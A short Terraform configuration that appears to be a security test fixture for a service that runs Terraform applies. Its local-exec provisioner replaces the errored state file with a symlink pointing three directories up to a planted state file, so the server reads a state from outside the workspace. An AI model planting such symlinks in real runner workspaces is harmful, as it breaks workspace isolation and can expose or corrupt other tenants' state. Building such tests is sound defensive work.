# Leaves a link in the place of the state that terraform could not deliver. The server takes that in after the apply,
# and would read what it leads to: here a state that is none of this workspace's.

resource "terraform_data" "attack" {
  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]

    command = <<-EOT
      won() { echo "attack-$((40 + 2))-succeeded: $1"; }
      ln -s ../../../planted-state.json errored.tfstate
    EOT
  }
}
